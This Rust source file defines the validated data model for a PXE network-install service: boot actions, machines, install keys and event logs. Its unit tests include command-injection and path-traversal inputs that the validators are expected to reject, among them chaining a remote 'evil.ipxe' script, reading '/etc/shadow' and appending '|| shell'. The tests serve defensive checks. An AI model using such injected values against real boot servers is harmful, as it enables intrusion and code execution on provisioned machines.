//! Checked data model: boot actions, machines, their life-cycle state and events.
//!
//! Layer: model (pure). API bodies arrive as raw serde shapes
//! ([`BootActionBody`], [`MachineBody`]) and become checked types through
//! `TryFrom`; only checked values reach the store, a boot config or a
//! kickstart. Every field that ends up in generated text is validated here
//! (hostnames per RFC 1123 §2.1, IPv4 addresses and contiguous netmasks,
//! relative image paths, kernel arguments without spaces or control
//! characters, and no `;`, `&&`, `||`, `#` or `${` in anything written into
//! a boot script or onto the kernel line), so no config or kickstart
//! injection is possible downstream.

mod id;
pub mod validate;

pub use id::{
    IdError, MachineId, format_mac, format_uuid, parse_mac, parse_pi_serial, parse_uuid, swap_uuid,
};

use serde::{Deserialize, Serialize};
use std::collections::{BTreeMap, VecDeque};
use std::fmt;
use std::net::Ipv4Addr;
use validate::{
    FieldError, MAX_KERNEL_LINE, check_boot_script_safe, check_hostname, check_image_path,
    check_kernel_arg, check_netmask, check_text, check_token, parse_ipv4, same_subnet,
};

/// Which boot loader a machine's boot action runs after the firmware: a
/// family, whose file per firmware class the config names
/// (`dhcp::config::Loaders`).
///
/// Stored with postcard by variant index: new families go at the end.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Loader {
    /// pxelinux / syslinux.efi over TFTP (the original GoPXE flow).
    Pxelinux,
    /// iPXE: kernel and initrd over HTTP.
    Ipxe,
    /// GRUB's network image, loaded directly (no Secure Boot).
    Grub,
    /// shim, which loads the signed GRUB beside it: the Secure Boot chain.
    #[serde(rename = "shim-grub")]
    ShimGrub,
    /// The family the config names for the client's firmware class (the
    /// default when a boot action names none).
    #[default]
    Auto,
}

impl Loader {
    /// The name the API and the config file use.
    pub fn as_str(self) -> &'static str {
        match self {
            Loader::Pxelinux => "pxelinux",
            Loader::Ipxe => "ipxe",
            Loader::Grub => "grub",
            Loader::ShimGrub => "shim-grub",
            Loader::Auto => "auto",
        }
    }

    /// Every family, `auto` last.
    pub const ALL: [Loader; 5] = [
        Loader::Pxelinux,
        Loader::Ipxe,
        Loader::Grub,
        Loader::ShimGrub,
        Loader::Auto,
    ];
}

impl std::str::FromStr for Loader {
    type Err = String;
    fn from_str(s: &str) -> Result<Self, Self::Err> {
        Loader::ALL
            .into_iter()
            .find(|l| l.as_str() == s)
            .ok_or_else(|| {
                format!(
                    "`{}` is not a loader: pxelinux, ipxe, grub, shim-grub or auto",
                    s.escape_debug()
                )
            })
    }
}

/// Which installer a boot action starts, and so which per-machine answer
/// file it is pointed at (see `boot::installer` for the kernel arguments).
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Installer {
    /// anaconda (RHEL family): `ks=` with the kickstart URL. The original's only kind.
    #[default]
    Kickstart,
    /// debian-installer (Debian, older Ubuntu): `auto=true priority=critical url=`
    /// with the preseed URL.
    Preseed,
    /// Ubuntu live-server (subiquity): `autoinstall ds=nocloud-net;s=` with
    /// the cloud-init NoCloud seed URL.
    Autoinstall,
}

impl Installer {
    pub fn as_str(self) -> &'static str {
        match self {
            Installer::Kickstart => "kickstart",
            Installer::Preseed => "preseed",
            Installer::Autoinstall => "autoinstall",
        }
    }
}

/// The disk layout an installer is asked for (preseed, autoinstall).
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Storage {
    /// Logical volumes on the first disk.
    Lvm,
    /// Plain partitions on the first disk.
    Direct,
}

/// A named recipe: kernel, initrd and arguments (the original's "bootaction").
///
/// Stored with postcard, which is not self-describing: a new field needs a
/// new store schema version and a decoder for the old one
/// (`store::BootActionV1`); new fields go at the end.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct BootAction {
    pub name: String,
    pub default: String,
    pub label: String,
    pub menu: String,
    pub kernel: String,
    pub initrd: Option<String>,
    pub ksdevice: Option<String>,
    pub ip: Option<String>,
    pub load_ramdisk: Option<String>,
    /// Further kernel arguments, appended verbatim after the others.
    pub append: Option<String>,
    pub loader: Loader,
    /// Which answer file the machine's kernel line points at (schema 2).
    pub installer: Installer,
    /// Disk layout for preseed/autoinstall; `None`: the installer's default
    /// (preseed: plain partitions, autoinstall: LVM). Schema 2.
    pub storage: Option<Storage>,
}

/// The JSON body of `POST /bootaction/{name}` (the original's fields plus
/// `append`, `loader`, `installer` and `storage`). Unknown fields are refused.
#[derive(Clone, Debug, Default, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct BootActionBody {
    pub default: Option<String>,
    pub label: Option<String>,
    pub menu: Option<String>,
    pub kernel: Option<String>,
    pub initrd: Option<String>,
    pub ksdevice: Option<String>,
    pub ip: Option<String>,
    pub load_ramdisk: Option<String>,
    pub append: Option<String>,
    pub loader: Option<Loader>,
    /// `kickstart` (default), `preseed` or `autoinstall`; parsed by hand so
    /// that a bad value is a 400 naming the field.
    pub installer: Option<String>,
    /// `lvm` or `direct`.
    pub storage: Option<String>,
}

fn opt<T>(
    v: Option<String>,
    f: impl FnOnce(&str) -> Result<T, FieldError>,
) -> Result<Option<T>, FieldError> {
    match v.as_deref().map(str::trim) {
        None | Some("") => Ok(None),
        Some(s) => f(s).map(Some),
    }
}

impl BootAction {
    /// Checks a body for the action called `name`. An `append` that alone
    /// would not fit on a kernel command line is refused before anything
    /// else is looked at; whether the whole line fits depends on the
    /// machines booting the action and is checked when it is stored
    /// (`boot::kernel_line_len`).
    pub fn from_body(name: &str, b: BootActionBody) -> Result<Self, FieldError> {
        if let Some(x) = &b.append
            && x.len() >= MAX_KERNEL_LINE
        {
            return Err(FieldError::new(
                "append",
                format!(
                    "is {} bytes; a kernel command line holds at most {} (COMMAND_LINE_SIZE {MAX_KERNEL_LINE} with its terminating NUL)",
                    x.len(),
                    MAX_KERNEL_LINE - 1
                ),
            ));
        }
        let name = check_token("name", name)?;
        let label = match b.label.as_deref().map(str::trim) {
            None | Some("") => "linux".to_string(),
            Some(l) => check_token("label", l)?,
        };
        let default = match b.default.as_deref().map(str::trim) {
            None | Some("") => label.clone(),
            Some(d) => check_token("default", d)?,
        };
        let menu = opt(b.menu, |s| check_text("menu", s, 128))?.unwrap_or_else(|| name.clone());
        let kernel = opt(b.kernel, |s| check_image_path("kernel", s))?
            .ok_or_else(|| FieldError::new("kernel", "is required"))?;
        Ok(BootAction {
            initrd: opt(b.initrd, |s| check_image_path("initrd", s))?,
            ksdevice: opt(b.ksdevice, |s| check_kernel_arg("ksdevice", s))?,
            ip: opt(b.ip, |s| check_kernel_arg("ip", s))?,
            load_ramdisk: opt(b.load_ramdisk, |s| check_kernel_arg("load_ramdisk", s))?,
            append: opt(b.append, |s| {
                check_boot_script_safe("append", s)?;
                for arg in s.split(' ').filter(|a| !a.is_empty()) {
                    check_kernel_arg("append", arg)?;
                }
                Ok(s.split_whitespace().collect::<Vec<_>>().join(" "))
            })?,
            loader: b.loader.unwrap_or_default(),
            installer: opt(b.installer, |s| match s {
                "kickstart" => Ok(Installer::Kickstart),
                "preseed" => Ok(Installer::Preseed),
                "autoinstall" => Ok(Installer::Autoinstall),
                other => Err(FieldError::new(
                    "installer",
                    format!(
                        "`{}` is not an installer: kickstart, preseed or autoinstall",
                        other.escape_debug()
                    ),
                )),
            })?
            .unwrap_or_default(),
            storage: opt(b.storage, |s| match s {
                "lvm" => Ok(Storage::Lvm),
                "direct" => Ok(Storage::Direct),
                other => Err(FieldError::new(
                    "storage",
                    format!("`{}` is not a layout: lvm or direct", other.escape_debug()),
                )),
            })?,
            name,
            default,
            label,
            menu,
            kernel,
        })
    }
}

/// Where a machine is in its install life cycle.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum MachineState {
    /// Boots the installer.
    #[default]
    Install,
    /// Its kickstart was fetched: the installer runs.
    Installing,
    /// The installer called back: boots from local disk.
    Installed,
    /// The install failed: its installer logged a critical error, or it
    /// stayed `installing` past `install_timeout` (see [`install_overdue`]).
    /// Boots the installer again; `reinstall` (or `done`) ends it.
    Failed,
}

impl MachineState {
    pub fn as_str(self) -> &'static str {
        match self {
            MachineState::Install => "install",
            MachineState::Installing => "installing",
            MachineState::Installed => "installed",
            MachineState::Failed => "failed",
        }
    }

    /// Every state, in life-cycle order (metrics, the status page).
    pub const ALL: [MachineState; 4] = [
        MachineState::Install,
        MachineState::Installing,
        MachineState::Installed,
        MachineState::Failed,
    ];
}

/// Whether machine `m` has been `installing` for `timeout_ms` or longer at
/// `now_ms` (`timeout_ms` 0: never). A record's `updated_ms` is when it
/// last changed, and nothing changes an `installing` record but a change of
/// state, so it is when the install started.
pub fn install_overdue(m: &Machine, now_ms: u64, timeout_ms: u64) -> bool {
    timeout_ms > 0
        && m.state == MachineState::Installing
        && now_ms.saturating_sub(m.updated_ms) >= timeout_ms
}

/// When the next install of `machines` becomes overdue, for a timer: the
/// earliest `updated_ms + timeout_ms` of those installing, and at most
/// `now_ms + timeout_ms` (an install starting later is due later still).
/// `None` when `timeout_ms` is 0.
pub fn next_install_deadline<'m>(
    machines: impl IntoIterator<Item = &'m Machine>,
    now_ms: u64,
    timeout_ms: u64,
) -> Option<u64> {
    if timeout_ms == 0 {
        return None;
    }
    let latest = now_ms.saturating_add(timeout_ms);
    Some(
        machines
            .into_iter()
            .filter(|m| m.state == MachineState::Installing)
            .map(|m| m.updated_ms.saturating_add(timeout_ms))
            .fold(latest, u64::min),
    )
}

impl fmt::Display for MachineState {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// The secret of one install. gopxe writes it into the `done` call-back
/// URL of the answer files it renders for the machine itself
/// (`/pxeboot/{id}/done?key=<32 hex digits>`), and the call-back must carry
/// it (or the API token): a host elsewhere on the segment cannot end an
/// install it did not run. A new key comes with every install (record
/// written, reinstall); `done` clears it, so it works once. Made by the
/// caller from the system's random source; its `Debug` hides it.
#[derive(Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct InstallKey(pub [u8; 16]);

impl InstallKey {
    /// The 32 lower-case hex digits written into URLs.
    pub fn hex(&self) -> String {
        let mut s = Vec::with_capacity(32);
        for b in self.0 {
            id::push_hex(&mut s, b);
        }
        String::from_utf8(s).unwrap_or_default()
    }

    /// Whether `given` is this key, compared without an early exit.
    pub fn matches(&self, given: &str) -> bool {
        let want = self.hex();
        want.len() == given.len()
            && want
                .bytes()
                .zip(given.bytes())
                .fold(0u8, |acc, (a, b)| acc | (a ^ b.to_ascii_lowercase()))
                == 0
    }
}

impl fmt::Debug for InstallKey {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str("InstallKey(..)")
    }
}

/// A machine to provision (the original's "PXEBoot record").
///
/// Stored with postcard: a new field needs a new store schema version
/// (`store::MachineV1`); new fields go at the end.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Machine {
    pub id: MachineId,
    pub bootaction: String,
    pub ksfile: String,
    pub os: Option<String>,
    pub version: Option<String>,
    pub hostname: Option<String>,
    pub ip: Option<Ipv4Addr>,
    pub mask: Option<Ipv4Addr>,
    pub gw: Option<Ipv4Addr>,
    pub ns1: Option<Ipv4Addr>,
    pub ns2: Option<Ipv4Addr>,
    pub state: MachineState,
    /// Unix time in milliseconds of the last change of the record.
    pub updated_ms: u64,
    /// The current install's key (schema 2): made by `reinstall` and by a
    /// write of the record, kept once installed so a retried `done` of
    /// that install is recognised.
    pub install_key: Option<InstallKey>,
}

/// The JSON body of `POST /pxeboot` and `PUT /pxeboot/{id}`.
#[derive(Clone, Debug, Default, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct MachineBody {
    pub uuid: Option<String>,
    pub mac: Option<String>,
    /// A Raspberry Pi's board serial (`1a2b3c4d` or `pi-1a2b3c4d`).
    pub serial: Option<String>,
    pub bootaction: Option<String>,
    pub ksfile: Option<String>,
    pub os: Option<String>,
    pub version: Option<String>,
    pub hostname: Option<String>,
    pub ip: Option<String>,
    pub mask: Option<String>,
    pub gw: Option<String>,
    pub ns1: Option<String>,
    pub ns2: Option<String>,
}

impl Machine {
    /// Checks a body. `path_id` is the id from the URL (for `PUT`), which
    /// must agree with any id in the body.
    pub fn from_body(b: MachineBody, path_id: Option<MachineId>) -> Result<Self, FieldError> {
        let parse_id = |field: &'static str, s: &str| {
            s.parse::<MachineId>()
                .map_err(|e| FieldError::new(field, e.to_string()))
        };
        let serial = opt(b.serial, |s| {
            parse_pi_serial(s).map(MachineId::PiSerial).ok_or_else(|| {
                FieldError::new("serial", "is not a Raspberry Pi serial (8 hex digits)")
            })
        })?;
        let mut ids = [
            opt(b.uuid, |s| parse_id("uuid", s))?,
            opt(b.mac, |s| parse_id("mac", s))?,
            serial,
        ]
        .into_iter()
        .flatten();
        let body_id = ids.next();
        if ids.any(|other| Some(other) != body_id) {
            return Err(FieldError::new(
                "mac",
                "give one of uuid, mac or serial, not two different ids",
            ));
        }
        let id = match (body_id, path_id) {
            (Some(b), Some(p)) if b != p => {
                return Err(FieldError::new("uuid", "does not match the id in the URL"));
            }
            (b, p) => b.or(p).ok_or_else(|| {
                FieldError::new("uuid", "is required (a UUID, a MAC address or a Pi serial)")
            })?,
        };
        let bootaction = opt(b.bootaction, |s| check_token("bootaction", s))?
            .ok_or_else(|| FieldError::new("bootaction", "is required"))?;
        let ksfile =
            opt(b.ksfile, |s| check_token("ksfile", s))?.unwrap_or_else(|| "default".into());
        let ip = opt(b.ip, |s| parse_ipv4("ip", s))?;
        let mask = opt(b.mask, |s| check_netmask("mask", s))?;
        let gw = opt(b.gw, |s| parse_ipv4("gw", s))?;
        if let (Some(ip), Some(mask), Some(gw)) = (ip, mask, gw)
            && !same_subnet(ip, gw, mask)
        {
            return Err(FieldError::new(
                "gw",
                format!("{gw} is not on the subnet of {ip}/{mask}"),
            ));
        }
        Ok(Machine {
            id,
            bootaction,
            ksfile,
            os: opt(b.os, |s| check_token("os", s))?,
            version: opt(b.version, |s| check_token("version", s))?,
            hostname: opt(b.hostname, |s| check_hostname("hostname", s))?,
            ip,
            mask,
            gw,
            ns1: opt(b.ns1, |s| parse_ipv4("ns1", s))?,
            ns2: opt(b.ns2, |s| parse_ipv4("ns2", s))?,
            state: MachineState::Install,
            updated_ms: 0,
            install_key: None,
        })
    }
}

/// Every record the appliance keeps, in memory: what boot configs and
/// answer files are rendered from. The store (`gopxe::store::Store`)
/// holds one and makes each change durable.
#[derive(Debug, Default, Clone, PartialEq)]
pub struct Records {
    pub bootactions: BTreeMap<String, BootAction>,
    pub machines: BTreeMap<MachineId, Machine>,
    /// Admin kickstart templates, by name.
    pub templates: BTreeMap<String, String>,
}

/// What kind of step an [`Event`] records.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum EventKind {
    Created,
    Updated,
    Dhcp,
    Tftp,
    Http,
    /// The machine fetched its kickstart (anaconda).
    Kickstart,
    /// The machine fetched its preseed (debian-installer).
    Preseed,
    /// The machine fetched its autoinstall user-data (subiquity).
    Autoinstall,
    Done,
    Reinstall,
    /// A line of the installer's own log (syslog, see `gopxe_proto::syslog`).
    Syslog,
    /// The install failed (a critical log line, or the time-out).
    Failed,
}

/// One step in a machine's life, as seen on the wire or through the API.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Event {
    /// Unix time in milliseconds.
    pub at_ms: u64,
    pub kind: EventKind,
    pub detail: String,
}

/// A bounded per-machine event log: the oldest events fall off. Syslog
/// lines are bounded on their own ([`EventLog::SYSLOG_CAPACITY`]), so a
/// chatty installer cannot push the machine's boot steps out.
#[derive(Clone, Debug, Default)]
pub struct EventLog {
    /// Each event with its sequence number (the order of arrival).
    events: VecDeque<(u64, Event)>,
    syslog: VecDeque<(u64, Event)>,
    next: u64,
}

impl EventLog {
    /// How many events other than syslog lines are kept per machine.
    pub const CAPACITY: usize = 64;
    /// How many syslog lines are kept per machine, besides.
    pub const SYSLOG_CAPACITY: usize = 100;

    pub fn push(&mut self, e: Event) {
        let (log, cap) = match e.kind {
            EventKind::Syslog => (&mut self.syslog, Self::SYSLOG_CAPACITY),
            _ => (&mut self.events, Self::CAPACITY),
        };
        if log.len() >= cap {
            log.pop_front();
        }
        log.push_back((self.next, e));
        self.next += 1;
    }

    /// Every event kept, in the order they came.
    pub fn iter(&self) -> impl DoubleEndedIterator<Item = &Event> {
        let mut all: Vec<&(u64, Event)> = self.events.iter().chain(&self.syslog).collect();
        all.sort_unstable_by_key(|(seq, _)| *seq);
        all.into_iter().map(|(_, e)| e)
    }

    pub fn last(&self) -> Option<&Event> {
        match (self.events.back(), self.syslog.back()) {
            (Some(a), Some(b)) => Some(if a.0 > b.0 { &a.1 } else { &b.1 }),
            (a, b) => a.or(b).map(|(_, e)| e),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn readme_action() -> BootActionBody {
        serde_json::from_str(
            r#"{"default": "linux", "label": "linux", "menu": "centos7",
                "kernel": "centos7/vmlinuz", "ksdevice": "link", "ip": "dhcp",
                "load_ramdisk": "1", "initrd":"centos7/initrd.img"}"#,
        )
        .unwrap()
    }

    #[test]
    fn readme_bootaction_is_valid() {
        let a = BootAction::from_body("myfirstbootaction", readme_action()).unwrap();
        assert_eq!(a.kernel, "centos7/vmlinuz");
        assert_eq!(a.initrd.as_deref(), Some("centos7/initrd.img"));
        // No loader named: the firmware class's (pxelinux for BIOS).
        assert_eq!(a.loader, Loader::Auto);
    }

    #[test]
    fn bootaction_rejects_injection() {
        let mut b = readme_action();
        b.kernel = Some("../../etc/shadow".into());
        assert_eq!(BootAction::from_body("x", b).unwrap_err().field, "kernel");
        let mut b = readme_action();
        b.ip = Some("dhcp\nKERNEL evil".into());
        assert_eq!(BootAction::from_body("x", b).unwrap_err().field, "ip");
        let mut b = readme_action();
        b.menu = Some("a\rb".into());
        assert_eq!(BootAction::from_body("x", b).unwrap_err().field, "menu");
        assert_eq!(
            BootAction::from_body("../x", readme_action())
                .unwrap_err()
                .field,
            "name"
        );
    }

    /// Sets one of the fields that reach a boot config or the kernel line.
    fn set_field(b: &mut BootActionBody, field: &str, value: &str) {
        let v = Some(value.to_string());
        match field {
            "default" => b.default = v,
            "label" => b.label = v,
            "menu" => b.menu = v,
            "kernel" => b.kernel = v,
            "initrd" => b.initrd = v,
            "ksdevice" => b.ksdevice = v,
            "ip" => b.ip = v,
            "load_ramdisk" => b.load_ramdisk = v,
            "append" => b.append = v,
            other => panic!("no field {other}"),
        }
    }

    const BOOT_LINE_FIELDS: [&str; 9] = [
        "default",
        "label",
        "menu",
        "kernel",
        "initrd",
        "ksdevice",
        "ip",
        "load_ramdisk",
        "append",
    ];

    #[test]
    fn bootaction_refuses_the_issue_examples() {
        for (field, value, seq) in [
            (
                "menu",
                "x ; chain http://198.51.100.9/evil.ipxe ; echo",
                "\";\"",
            ),
            ("append", "console=ttyS0 || shell", "\"||\""),
            ("append", "console=ttyS0 # ks=http://x", "\"#\""),
            ("append", "console=ttyS0 #ks=http://x", "\"#\""),
            ("append", "ip=${net0/ip}", "\"${\""),
            ("append", "a && reboot", "\"&&\""),
        ] {
            let mut b = readme_action();
            set_field(&mut b, field, value);
            let e = BootAction::from_body("x", b).unwrap_err();
            assert_eq!(e.field, field, "{value:?}");
            assert!(
                e.message
                    .starts_with(&format!("contains {seq}; characters that end")),
                "{e}"
            );
        }
        // 15 KB of otherwise valid arguments: refused for its size, before
        // anything else is checked (the name here is invalid too).
        let mut b = readme_action();
        b.append = Some("console=ttyS0 ".repeat(15 * 1024 / 14));
        let e = BootAction::from_body("../x", b).unwrap_err();
        assert_eq!(e.field, "append");
        assert!(e.message.contains("at most 2047"), "{e}");
        let mut b = readme_action();
        b.append = Some("q".repeat(MAX_KERNEL_LINE - 1));
        assert_eq!(BootAction::from_body("x", b).unwrap_err().field, "append");
    }

    /// Each field that reaches a boot config or the kernel line refuses
    /// each sequence, whatever validator it goes through, naming itself.
    #[test]
    fn every_boot_line_field_refuses_script_breakers() {
        for field in BOOT_LINE_FIELDS {
            for seq in [";", "&&", "||", "#", "${", "\n", "\r", "\0"] {
                let mut values = vec![format!("centos7{seq}x")];
                // Leading and trailing whitespace is trimmed off, not refused.
                if !seq.trim().is_empty() {
                    values.extend([format!("{seq}centos7"), format!("centos7{seq}")]);
                }
                for value in values {
                    let mut b = readme_action();
                    set_field(&mut b, field, &value);
                    let r = BootAction::from_body("x", b);
                    assert_eq!(
                        r.map_err(|e| e.field).err().as_deref(),
                        Some(field),
                        "{field} = {value:?}"
                    );
                }
            }
        }
        // Ordinary values stay valid.
        let mut b = readme_action();
        b.append = Some(
            "console=ttyS0,115200n8 BOOT_IMAGE=x a|b inst.ks=http://h/ks?a=1&b=2 --- quiet".into(),
        );
        b.menu = Some("CentOS 7 | x86_64 $5".into());
        let a = BootAction::from_body("x", b).unwrap();
        assert_eq!(
            a.append.as_deref(),
            Some("console=ttyS0,115200n8 BOOT_IMAGE=x a|b inst.ks=http://h/ks?a=1&b=2 --- quiet")
        );
    }

    #[test]
    fn bootaction_installer_and_storage() {
        let a = BootAction::from_body("x", readme_action()).unwrap();
        assert_eq!((a.installer, a.storage), (Installer::Kickstart, None));
        let mut b = readme_action();
        b.installer = Some("preseed".into());
        b.storage = Some("lvm".into());
        let a = BootAction::from_body("x", b).unwrap();
        assert_eq!(
            (a.installer, a.storage),
            (Installer::Preseed, Some(Storage::Lvm))
        );
        let v = serde_json::to_value(&a).unwrap();
        assert_eq!(
            (v["installer"].as_str(), v["storage"].as_str()),
            (Some("preseed"), Some("lvm"))
        );
        for (field, value) in [
            ("installer", "kick start"),
            ("installer", "anaconda"),
            ("storage", "zfs"),
        ] {
            let mut b = readme_action();
            if field == "installer" {
                b.installer = Some(value.into());
            } else {
                b.storage = Some(value.into());
            }
            let e = BootAction::from_body("x", b).unwrap_err();
            assert_eq!(e.field, field, "{value:?}");
        }
    }

    #[test]
    fn machine_body_checks_fields() {
        let b: MachineBody = serde_json::from_str(
            r#"{"bootaction": "vmtemplate", "ksfile": "default", "os": "centos-7",
                "version": "7.5.1804", "hostname": "test-myvm1.local", "ip": "10.1.20.50",
                "mask": "255.255.255.0", "ns1": "8.8.8.8", "ns2": "8.8.4.4",
                "gw": "10.1.20.1", "uuid": "42330d5a-0ead-f7fa-4e3a-ae3bdcb08c69"}"#,
        )
        .unwrap();
        let m = Machine::from_body(b.clone(), None).unwrap();
        assert_eq!(m.gw, Some(Ipv4Addr::new(10, 1, 20, 1)));
        for (field, value) in [
            ("hostname", "bad_host"),
            ("ip", "10.1.20.500"),
            ("mask", "255.0.255.0"),
            ("gw", "10.1.21.1"),
            ("uuid", "../../etc/x"),
            ("os", "centos 7"),
        ] {
            let mut b = b.clone();
            match field {
                "hostname" => b.hostname = Some(value.into()),
                "ip" => b.ip = Some(value.into()),
                "mask" => b.mask = Some(value.into()),
                "gw" => b.gw = Some(value.into()),
                "uuid" => b.uuid = Some(value.into()),
                _ => b.os = Some(value.into()),
            }
            assert_eq!(
                Machine::from_body(b, None).unwrap_err().field,
                field,
                "{value}"
            );
        }
        let other: MachineId = "aa:bb:cc:dd:ee:ff".parse().unwrap();
        assert_eq!(
            Machine::from_body(b, Some(other)).unwrap_err().field,
            "uuid"
        );
    }

    #[test]
    fn machine_body_takes_a_pi_serial() {
        let body = |json: &str| serde_json::from_str::<MachineBody>(json).unwrap();
        let pi = MachineId::PiSerial(0x1a2b_3c4d);
        for json in [
            r#"{"bootaction": "pi", "serial": "1a2b3c4d"}"#,
            r#"{"bootaction": "pi", "serial": "pi-1A2B3C4D"}"#,
            r#"{"bootaction": "pi", "uuid": "pi-1a2b3c4d"}"#,
            r#"{"bootaction": "pi", "serial": "1a2b3c4d", "uuid": "pi-1a2b3c4d"}"#,
        ] {
            assert_eq!(
                Machine::from_body(body(json), None).unwrap().id,
                pi,
                "{json}"
            );
        }
        assert_eq!(
            Machine::from_body(body(r#"{"bootaction": "pi"}"#), Some(pi))
                .unwrap()
                .id,
            pi
        );
        for (json, field) in [
            (r#"{"bootaction": "pi", "serial": "../1a2b3c"}"#, "serial"),
            (r#"{"bootaction": "pi", "serial": "1a2b3c4d5"}"#, "serial"),
            (
                r#"{"bootaction": "pi", "serial": "1a2b3c4d", "mac": "dc:a6:32:01:02:03"}"#,
                "mac",
            ),
        ] {
            assert_eq!(
                Machine::from_body(body(json), None).unwrap_err().field,
                field,
                "{json}"
            );
        }
        let other: MachineId = "pi-00000001".parse().unwrap();
        assert_eq!(
            Machine::from_body(
                body(r#"{"bootaction": "pi", "serial": "1a2b3c4d"}"#),
                Some(other)
            )
            .unwrap_err()
            .field,
            "uuid"
        );
    }

    #[test]
    fn install_keys_are_hex_and_compared_whole() {
        let k = InstallKey([0xab; 16]);
        assert_eq!(k.hex(), "ab".repeat(16));
        assert!(k.matches(&"ab".repeat(16)));
        assert!(k.matches(&"AB".repeat(16)), "hex digits ignore case");
        assert!(!k.matches(&"ab".repeat(15)));
        assert!(!k.matches(&format!("{}ac", "ab".repeat(15))));
        assert!(!k.matches(""));
        assert_eq!(format!("{k:?}"), "InstallKey(..)", "Debug hides the key");
    }

    #[test]
    fn event_log_is_bounded() {
        let mut log = EventLog::default();
        for i in 0..200 {
            log.push(Event {
                at_ms: i,
                kind: EventKind::Tftp,
                detail: String::new(),
            });
        }
        assert_eq!(log.iter().count(), EventLog::CAPACITY);
        assert_eq!(log.last().unwrap().at_ms, 199);
        // A burst of syslog lines keeps its own bound and evicts none of
        // the rest; the order of arrival is kept.
        for i in 200..1200 {
            let kind = if i == 700 {
                EventKind::Failed
            } else {
                EventKind::Syslog
            };
            log.push(Event {
                at_ms: i,
                kind,
                detail: String::new(),
            });
        }
        let kinds = |k| log.iter().filter(|e| e.kind == k).count();
        assert_eq!(kinds(EventKind::Syslog), EventLog::SYSLOG_CAPACITY);
        assert_eq!(kinds(EventKind::Tftp), EventLog::CAPACITY - 1);
        assert_eq!(kinds(EventKind::Failed), 1);
        let at: Vec<u64> = log.iter().map(|e| e.at_ms).collect();
        assert!(at.windows(2).all(|w| w[0] < w[1]), "{at:?}");
        assert_eq!(log.last().unwrap().at_ms, 1199);
        assert_eq!(log.iter().next_back().unwrap().at_ms, 1199);
    }

    fn installing_since(ms: u64) -> Machine {
        let mut m = Machine::from_body(
            MachineBody {
                mac: Some("52:54:00:00:00:01".into()),
                bootaction: Some("a".into()),
                ..Default::default()
            },
            None,
        )
        .unwrap();
        m.state = MachineState::Installing;
        m.updated_ms = ms;
        m
    }

    /// The time-out with the clock moved by hand.
    #[test]
    fn installs_become_overdue_after_the_timeout() {
        let hour = 3_600_000;
        let m = installing_since(10 * hour);
        assert!(!install_overdue(&m, 10 * hour, 2 * hour));
        assert!(!install_overdue(&m, 12 * hour - 1, 2 * hour));
        assert!(install_overdue(&m, 12 * hour, 2 * hour));
        assert!(!install_overdue(&m, 100 * hour, 0), "0: never");
        // A clock set back is no time-out.
        assert!(!install_overdue(&m, 0, 2 * hour));
        for st in [
            MachineState::Install,
            MachineState::Installed,
            MachineState::Failed,
        ] {
            let mut other = m.clone();
            other.state = st;
            assert!(!install_overdue(&other, 100 * hour, 2 * hour), "{st}");
        }
        let later = installing_since(11 * hour);
        let mut done = installing_since(hour);
        done.state = MachineState::Installed;
        assert_eq!(
            next_install_deadline([&m, &later, &done], 11 * hour, 2 * hour),
            Some(12 * hour)
        );
        assert_eq!(
            next_install_deadline([&done], 11 * hour, 2 * hour),
            Some(13 * hour),
            "nothing installing: one time-out from now"
        );
        assert_eq!(next_install_deadline([&m], 11 * hour, 0), None);
    }
}
